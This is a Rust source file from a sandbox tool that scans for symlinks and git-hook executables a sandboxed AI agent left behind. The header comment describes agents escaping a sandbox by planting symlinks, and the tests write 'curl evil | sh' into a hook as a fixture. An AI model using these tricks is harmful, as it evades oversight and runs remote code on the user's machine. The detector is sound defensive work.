//! After the run: what the sandbox left behind that would act *outside* it
//! once it is gone, so the user sees it.
//!
//! - Symlinks made during the run, in the project, that point outside it.
//!   Nothing inside can follow them (the target is absent or denied), but
//!   a host tool run later (an editor, git, a build, a copy) would read or
//!   write the target: the way a sandboxed agent plants a `~/.bashrc` edit
//!   (Claude Code CVE-2026-39861 class).
//! - Executable files in protected places that got through (new, or with
//!   changed content): a protected path that could not be captured or
//!   restored, a gap in a mechanism. Normally this finds nothing.
//!
//! Cost. Nothing is walked before the run: a symlink's change time (ctime)
//! is set by the kernel and cannot be forged from inside (no CAP_SYS_TIME,
//! and seccomp denies the clock setters), so "made during the run" is
//! "ctime at or after the start". The start is read from the coarse clock
//! the kernel stamps inodes with, after one tick has passed since bwai
//! started: everything older is strictly before it. On filesystems whose
//! timestamps may come from another clock (NFS, FUSE, SMB...), a list of
//! the existing symlinks is taken before the run instead (a bounded walk).
//! After the run, one walk of the project, never following a symlink
//! (every directory is opened with O_NOFOLLOW from its parent's
//! descriptor); `.git/objects` is skipped (git keeps no symlinks there and
//! it can be huge); `node_modules`, `target` and `.git` are walked last, so
//! that if the walk's budget runs out, it runs out there, and the user is
//! told.

use std::collections::hash_map::RandomState;
use std::collections::{HashMap, HashSet};
use std::ffi::{OsStr, OsString};
use std::hash::{BuildHasher, Hasher};
use std::io::Read;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Component, Path, PathBuf};
use std::time::Duration;

use nix::fcntl::{openat, OFlag};
use nix::libc;
use nix::sys::stat::{fstatat, Mode, SFlag};
use serde_json::{json, Value};

use crate::layers::protect::Protected;

/// The walk stops after this many directory entries (about a second).
const MAX_ENTRIES: usize = 1_000_000;
/// Deeper directories are not entered.
const MAX_DEPTH: usize = 64;
/// Content hashed in protected places, at most (they are small; what is
/// beyond is known by size and modification time only). As much as the
/// protected-path snapshot keeps: a larger tree is not restored either.
const MAX_HASHED_BYTES: u64 = 16 << 20;
/// Walked last: big, and rewritten by tools anyway.
const HEAVY: &[&str] = &["node_modules", "target", ".git"];
/// Never walked.
const SKIPPED: &[&str] = &[".git/objects"];

/// A point in time, as inode timestamps are kept.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
struct Stamp {
    sec: i64,
    nsec: i64,
}

/// The coarse realtime clock: the one the kernel stamps inodes with.
fn coarse_now() -> Stamp {
    let mut ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: a valid clock id and a valid timespec to fill.
    unsafe { libc::clock_gettime(libc::CLOCK_REALTIME_COARSE, &mut ts) };
    Stamp {
        sec: ts.tv_sec,
        nsec: ts.tv_nsec,
    }
}

/// Filesystems whose inode times come from this kernel's clock.
fn local_clock(project: &Path) -> bool {
    use nix::sys::statfs::{self, FsType};
    const ZFS: FsType = FsType(0x2fc1_2fc1);
    const BCACHEFS: FsType = FsType(0xca45_1a4e);
    const RAMFS: FsType = FsType(0x8584_58f6);
    let Ok(st) = statfs::statfs(project) else {
        return false;
    };
    [
        statfs::EXT4_SUPER_MAGIC,
        statfs::XFS_SUPER_MAGIC,
        statfs::BTRFS_SUPER_MAGIC,
        statfs::TMPFS_MAGIC,
        statfs::F2FS_SUPER_MAGIC,
        statfs::OVERLAYFS_SUPER_MAGIC,
        ZFS,
        BCACHEFS,
        RAMFS,
    ]
    .contains(&st.filesystem_type())
}

/// One thing left behind.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// `symlink` or `executable`.
    pub kind: &'static str,
    /// Relative to the project when inside it, else absolute.
    pub path: PathBuf,
    /// A symlink's target, as written.
    pub target: Option<PathBuf>,
    pub why: String,
}

impl Finding {
    /// `symlink src/x -> /home/u/.ssh/id_rsa (points outside the project)`
    pub fn line(&self) -> String {
        match &self.target {
            Some(t) => format!(
                "{} {} -> {} ({})",
                self.kind,
                self.path.display(),
                t.display(),
                self.why
            ),
            None => format!("{} {} ({})", self.kind, self.path.display(), self.why),
        }
    }

    pub fn json(&self) -> Value {
        json!({
            "kind": self.kind,
            "path": self.path,
            "target": self.target,
            "why": self.why,
        })
    }
}

/// The result of the post-run scan.
#[derive(Debug, Clone, Default)]
pub struct Scan {
    pub findings: Vec<Finding>,
    /// Where the scan could not be complete, and why.
    pub warnings: Vec<String>,
}

/// What counts as "made during the run" for symlinks.
enum Baseline {
    /// ctime at or after this stamp (set by `arm`).
    Since(Option<Stamp>),
    /// Not in this list of (path, target) taken before the run.
    Listed(HashSet<(PathBuf, OsString)>),
}

/// The state taken before the run.
pub struct Watch {
    project: PathBuf,
    started: Stamp,
    baseline: Baseline,
    /// The pre-run listing was cut short (only with `Baseline::Listed`).
    listing_incomplete: bool,
    protected: Vec<PathBuf>,
    hasher: RandomState,
    /// Executable files in protected places: path -> content digest.
    executables: HashMap<PathBuf, u64>,
}

impl Watch {
    /// Before the sandbox exists. Cheap on local filesystems: a clock read,
    /// a statfs, and the (small) protected places.
    pub fn start(project: &Path, protected: &[Protected]) -> Watch {
        let t = std::time::Instant::now();
        let started = coarse_now();
        let (baseline, listing_incomplete) = if local_clock(project) {
            (Baseline::Since(None), false)
        } else {
            let mut w = Walk::new(project);
            let mut links = HashSet::new();
            w.run(&mut |rel, dir, name| {
                if let Ok(t) = nix::fcntl::readlinkat(dir.as_fd(), name) {
                    links.insert((rel.to_path_buf(), t));
                }
            });
            (Baseline::Listed(links), w.incomplete.is_some())
        };
        let protected: Vec<PathBuf> = protected.iter().map(Protected::path).collect();
        let hasher = RandomState::new();
        let executables = executables(&protected, &hasher);
        log::debug!(
            "left-behind watch: {} before the run, {:?}",
            match &baseline {
                Baseline::Since(_) => "inode change times (no walk)".to_string(),
                Baseline::Listed(l) => format!("{} symlinks listed", l.len()),
            },
            t.elapsed()
        );
        Watch {
            project: project.to_path_buf(),
            started,
            baseline,
            listing_incomplete,
            protected,
            hasher,
            executables,
        }
    }

    /// Right before the command may run: from now on, a change is the
    /// run's. Waits for the coarse clock to tick past the start (at most a
    /// tick; usually the sandbox's setup took longer already).
    pub fn arm(&mut self) {
        let t = std::time::Instant::now();
        if let Baseline::Since(since) = &mut self.baseline {
            let deadline = std::time::Instant::now() + Duration::from_millis(100);
            let mut now = coarse_now();
            while now <= self.started && std::time::Instant::now() < deadline {
                std::thread::sleep(Duration::from_micros(500));
                now = coarse_now();
            }
            *since = Some(now);
        }
        log::debug!("left-behind watch armed, waited {:?}", t.elapsed());
    }

    /// After the run, once nothing of the sandbox is left.
    pub fn scan(&self) -> Scan {
        let t = std::time::Instant::now();
        let mut scan = Scan::default();
        let mut new_links = Vec::new();
        let mut w = Walk::new(&self.project);
        let since = match &self.baseline {
            Baseline::Since(Some(s)) => Some(*s),
            _ => None,
        };
        if let Baseline::Since(None) = self.baseline {
            scan.warnings
                .push("left-behind scan: the run never started".into());
            return scan;
        }
        w.run(&mut |rel, dir, name| {
            let Ok(target) = nix::fcntl::readlinkat(dir.as_fd(), name) else {
                return;
            };
            let new = match (&self.baseline, since) {
                (_, Some(s)) => {
                    fstatat(dir.as_fd(), name, nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW)
                        .map(|st| {
                            Stamp {
                                sec: st.st_ctime,
                                nsec: st.st_ctime_nsec,
                            } >= s
                        })
                        .unwrap_or(true)
                }
                (Baseline::Listed(before), None) => {
                    !before.contains(&(rel.to_path_buf(), target.clone()))
                }
                _ => false,
            };
            if new {
                new_links.push((rel.to_path_buf(), PathBuf::from(target)));
            }
        });
        for (rel, target) in new_links {
            if self.points_outside(&rel, &target) {
                scan.findings.push(Finding {
                    kind: "symlink",
                    path: rel,
                    target: Some(target),
                    why: "points outside the project".into(),
                });
            }
        }
        if let Some(why) = &w.incomplete {
            scan.warnings.push(format!(
                "left-behind scan of the project stopped early ({why}): symlinks beyond that point were not checked"
            ));
        }
        if self.listing_incomplete {
            scan.warnings.push(
                "left-behind scan: the list of symlinks taken before the run was cut short; some old links may be reported as new"
                    .into(),
            );
        }
        if since.is_some_and(|s| coarse_now() < s) {
            scan.warnings.push(
                "left-behind scan: the clock went back during the run; symlinks made in the sandbox may have been missed"
                    .into(),
            );
        }
        log::debug!(
            "left-behind scan: {} entries walked in {:?}",
            w.entries,
            t.elapsed()
        );
        let after = executables(&self.protected, &self.hasher);
        let mut changed: Vec<(&PathBuf, &'static str)> = after
            .iter()
            .filter_map(|(path, digest)| match self.executables.get(path) {
                None => Some((path, "new executable file in a protected place")),
                Some(d) if d != digest => {
                    Some((path, "executable file changed in a protected place"))
                }
                Some(_) => None,
            })
            .collect();
        changed.sort();
        for (path, why) in changed {
            scan.findings.push(Finding {
                kind: "executable",
                path: path
                    .strip_prefix(&self.project)
                    .map(Path::to_path_buf)
                    .unwrap_or_else(|_| path.clone()),
                target: None,
                why: why.into(),
            });
        }
        scan
    }

    /// Where the link leads once every symlink on the way is resolved (by
    /// reading them, never opening through them): outside the project?
    fn points_outside(&self, rel: &Path, target: &Path) -> bool {
        let from = self
            .project
            .join(rel.parent().unwrap_or(Path::new("")))
            .join(target);
        match crate::explain::resolve_on_host(&from) {
            Some(end) => !end.starts_with(&self.project),
            // A loop leads nowhere.
            None => false,
        }
    }
}

// ---------------------------------------------------------------- the walk

fn open_dir_at(dir: &OwnedFd, name: &OsStr) -> Option<OwnedFd> {
    openat(
        dir.as_fd(),
        name,
        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .ok()
}

/// The entries of a directory: (name, is_dir, is_symlink).
fn entries(dir: &OwnedFd) -> Vec<(OsString, bool, bool)> {
    let Ok(fd) = dir.try_clone() else {
        return Vec::new();
    };
    let Ok(mut d) = nix::dir::Dir::from_fd(fd) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for e in d.iter().flatten() {
        let name = OsStr::from_bytes(e.file_name().to_bytes());
        if name == "." || name == ".." {
            continue;
        }
        use nix::dir::Type;
        let ty = match e.file_type() {
            Some(t) => Some(t),
            // Filesystems without d_type: ask, without following.
            None => fstatat(dir.as_fd(), name, nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW)
                .ok()
                .map(
                    |st| match SFlag::from_bits_truncate(st.st_mode & libc::S_IFMT) {
                        SFlag::S_IFDIR => Type::Directory,
                        SFlag::S_IFLNK => Type::Symlink,
                        _ => Type::File,
                    },
                ),
        };
        out.push((
            name.to_os_string(),
            ty == Some(Type::Directory),
            ty == Some(Type::Symlink),
        ));
    }
    out
}

struct Walk {
    root: PathBuf,
    entries: usize,
    deferred: Vec<PathBuf>,
    incomplete: Option<String>,
}

impl Walk {
    fn new(root: &Path) -> Walk {
        Walk {
            root: root.to_path_buf(),
            entries: 0,
            deferred: Vec::new(),
            incomplete: None,
        }
    }

    /// Visit every symlink beneath the root: `visit(rel, dir, name)`.
    fn run(&mut self, visit: &mut dyn FnMut(&Path, &OwnedFd, &OsStr)) {
        let Ok(root) = nix::fcntl::open(
            &self.root,
            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
            Mode::empty(),
        ) else {
            self.incomplete = Some(format!("{} cannot be opened", self.root.display()));
            return;
        };
        self.dir(&root, Path::new(""), 0, false, visit);
        // The heavy folders last; each is opened again from the root, one
        // component at a time, never following a link.
        let mut i = 0;
        while i < self.deferred.len() && self.incomplete.is_none() {
            let rel = self.deferred[i].clone();
            i += 1;
            let mut fd = root.try_clone().ok();
            for c in rel.components() {
                if let (Some(d), Component::Normal(n)) = (&fd, c) {
                    fd = open_dir_at(d, n);
                }
            }
            if let Some(fd) = fd {
                let depth = rel.components().count();
                self.dir(&fd, &rel, depth, true, visit);
            }
        }
    }

    fn dir(
        &mut self,
        dir: &OwnedFd,
        rel: &Path,
        depth: usize,
        heavy: bool,
        visit: &mut dyn FnMut(&Path, &OwnedFd, &OsStr),
    ) {
        for (name, is_dir, is_link) in entries(dir) {
            if self.incomplete.is_some() {
                return;
            }
            self.entries += 1;
            if self.entries > MAX_ENTRIES {
                self.incomplete = Some(format!("more than {MAX_ENTRIES} entries"));
                return;
            }
            let child = rel.join(&name);
            if is_link {
                visit(&child, dir, &name);
            } else if is_dir {
                if SKIPPED.iter().any(|s| child == Path::new(s)) {
                    continue;
                }
                if depth + 1 > MAX_DEPTH {
                    self.incomplete = Some(format!(
                        "{} is more than {MAX_DEPTH} folders deep",
                        child.display()
                    ));
                    return;
                }
                if !heavy && HEAVY.iter().any(|h| name == *h) {
                    self.deferred.push(child);
                    continue;
                }
                if let Some(fd) = open_dir_at(dir, &name) {
                    self.dir(&fd, &child, depth + 1, heavy, visit);
                }
            }
        }
    }
}

// ---------------------------------------------------------------- protected places

/// Open `path` (absolute) without following a symlink anywhere on the way
/// (the walk the protected paths use); None if a component is a link or
/// missing.
fn open_nofollow(path: &Path, flags: OFlag) -> Option<OwnedFd> {
    crate::layers::protect::open_no_symlinks(path, flags).ok()
}

fn executables(places: &[PathBuf], hasher: &RandomState) -> HashMap<PathBuf, u64> {
    let mut out = HashMap::new();
    let mut budget = MAX_HASHED_BYTES;
    for place in places {
        let Some(fd) = open_nofollow(place, OFlag::O_PATH) else {
            continue;
        };
        let Ok(st) = nix::sys::stat::fstat(fd.as_fd()) else {
            continue;
        };
        match SFlag::from_bits_truncate(st.st_mode & libc::S_IFMT) {
            SFlag::S_IFREG if st.st_mode & 0o111 != 0 => {
                if let Some(f) = open_nofollow(place, OFlag::O_RDONLY | OFlag::O_NONBLOCK) {
                    out.insert(place.clone(), digest(f, hasher, &mut budget));
                }
            }
            SFlag::S_IFDIR => {
                if let Some(d) = open_nofollow(place, OFlag::O_RDONLY | OFlag::O_DIRECTORY) {
                    executables_in(&d, place, 0, hasher, &mut budget, &mut out);
                }
            }
            _ => {}
        }
    }
    out
}

fn executables_in(
    dir: &OwnedFd,
    path: &Path,
    depth: usize,
    hasher: &RandomState,
    budget: &mut u64,
    out: &mut HashMap<PathBuf, u64>,
) {
    if depth > MAX_DEPTH || out.len() > 100_000 {
        return;
    }
    for (name, is_dir, is_link) in entries(dir) {
        if is_link {
            continue;
        }
        if is_dir {
            if let Some(d) = open_dir_at(dir, &name) {
                executables_in(&d, &path.join(&name), depth + 1, hasher, budget, out);
            }
            continue;
        }
        let Ok(st) = fstatat(
            dir.as_fd(),
            name.as_os_str(),
            nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW,
        ) else {
            continue;
        };
        let regular = SFlag::from_bits_truncate(st.st_mode & libc::S_IFMT) == SFlag::S_IFREG;
        if !regular || st.st_mode & 0o111 == 0 {
            continue;
        }
        if let Ok(f) = openat(
            dir.as_fd(),
            name.as_os_str(),
            OFlag::O_RDONLY | OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK | OFlag::O_CLOEXEC,
            Mode::empty(),
        ) {
            out.insert(path.join(&name), digest(f, hasher, budget));
        }
    }
}

/// A keyed digest of the file's content; over the budget, of its size and
/// modification time.
fn digest(fd: OwnedFd, hasher: &RandomState, budget: &mut u64) -> u64 {
    use std::os::unix::fs::MetadataExt;
    let mut h = hasher.build_hasher();
    let mut f = std::fs::File::from(fd);
    let Ok(meta) = f.metadata() else {
        return h.finish();
    };
    let size = meta.len();
    h.write_u64(size);
    if size > *budget {
        h.write_i64(meta.mtime());
        h.write_i64(meta.mtime_nsec());
        return h.finish();
    }
    *budget -= size;
    let mut buf = [0u8; 64 * 1024];
    let mut r = f.by_ref().take(size);
    while let Ok(n) = r.read(&mut buf) {
        if n == 0 {
            break;
        }
        h.write(&buf[..n]);
    }
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(tag: &str) -> PathBuf {
        let p = std::env::temp_dir().join(format!("bwai-left-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        std::fs::create_dir_all(&p).unwrap();
        std::fs::canonicalize(&p).unwrap()
    }

    fn watch(project: &Path, protected: &[Protected], listed: bool) -> Watch {
        let mut w = Watch::start(project, protected);
        if listed {
            // As on a filesystem whose clock cannot be trusted.
            let mut links = HashSet::new();
            Walk::new(project).run(&mut |rel, dir, name| {
                if let Ok(t) = nix::fcntl::readlinkat(dir.as_fd(), name) {
                    links.insert((rel.to_path_buf(), t));
                }
            });
            w.baseline = Baseline::Listed(links);
        }
        w.arm();
        w
    }

    #[test]
    fn new_links_out_are_found_old_ones_and_links_inside_are_not() {
        for listed in [false, true] {
            let p = tmp(&format!("links-{listed}"));
            std::fs::create_dir_all(p.join("src/deep")).unwrap();
            std::os::unix::fs::symlink("/etc/passwd", p.join("old-out")).unwrap();
            let w = watch(&p, &[], listed);
            std::os::unix::fs::symlink("/etc/passwd", p.join("src/new-out")).unwrap();
            std::os::unix::fs::symlink("../../../outside", p.join("src/deep/rel-out")).unwrap();
            std::os::unix::fs::symlink("../src", p.join("src/deep/inside")).unwrap();
            std::os::unix::fs::symlink(p.join("src"), p.join("abs-inside")).unwrap();
            // Out and back in: resolves inside.
            let name = p.file_name().unwrap().to_str().unwrap().to_string();
            std::os::unix::fs::symlink(format!("../{name}/src"), p.join("roundtrip")).unwrap();
            // Inside, but it leads on through an old link out: a host tool
            // following it ends outside.
            std::os::unix::fs::symlink("old-out", p.join("via-old")).unwrap();
            std::fs::create_dir_all(p.join("node_modules/x")).unwrap();
            std::os::unix::fs::symlink("/root", p.join("node_modules/x/evil")).unwrap();
            std::fs::create_dir_all(p.join(".git/objects/ab")).unwrap();
            std::os::unix::fs::symlink("/root", p.join(".git/objects/ab/skipped")).unwrap();
            let scan = w.scan();
            let mut found: Vec<String> = scan
                .findings
                .iter()
                .map(|f| f.path.display().to_string())
                .collect();
            found.sort();
            assert_eq!(
                found,
                vec![
                    "node_modules/x/evil",
                    "src/deep/rel-out",
                    "src/new-out",
                    "via-old"
                ],
                "listed={listed} {scan:?}"
            );
            assert!(scan.warnings.is_empty(), "{scan:?}");
            std::fs::remove_dir_all(&p).unwrap();
        }
    }

    #[test]
    fn a_link_replaced_with_another_target_is_new() {
        let p = tmp("replaced");
        std::os::unix::fs::symlink("src", p.join("l")).unwrap();
        let w = watch(&p, &[], false);
        std::fs::remove_file(p.join("l")).unwrap();
        std::os::unix::fs::symlink("/etc", p.join("l")).unwrap();
        assert_eq!(w.scan().findings.len(), 1);
        std::fs::remove_dir_all(&p).unwrap();
    }

    #[test]
    fn executables_that_appear_or_change_in_protected_places_are_found() {
        use std::os::unix::fs::PermissionsExt;
        let p = tmp("exec");
        let hooks = p.join(".git/hooks");
        std::fs::create_dir_all(&hooks).unwrap();
        std::fs::write(hooks.join("pre-commit.sample"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(
            hooks.join("pre-commit.sample"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        std::fs::write(hooks.join("kept"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(hooks.join("kept"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        let prot = [Protected {
            base: p.clone(),
            rel: ".git/hooks".into(),
        }];
        let w = watch(&p, &prot, false);
        // Rewritten with the same content (as a restore does): not reported.
        std::fs::remove_file(hooks.join("kept")).unwrap();
        std::fs::write(hooks.join("kept"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(hooks.join("kept"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        std::fs::write(hooks.join("pre-commit.sample"), "curl evil | sh\n").unwrap();
        std::fs::write(hooks.join("post-checkout"), "evil\n").unwrap();
        std::fs::set_permissions(
            hooks.join("post-checkout"),
            std::fs::Permissions::from_mode(0o700),
        )
        .unwrap();
        std::fs::write(hooks.join("not-exec"), "x\n").unwrap();
        let found: Vec<String> = w.scan().findings.iter().map(Finding::line).collect();
        assert_eq!(
            found,
            vec![
                "executable .git/hooks/post-checkout (new executable file in a protected place)",
                "executable .git/hooks/pre-commit.sample (executable file changed in a protected place)",
            ]
        );
        std::fs::remove_dir_all(&p).unwrap();
    }
}
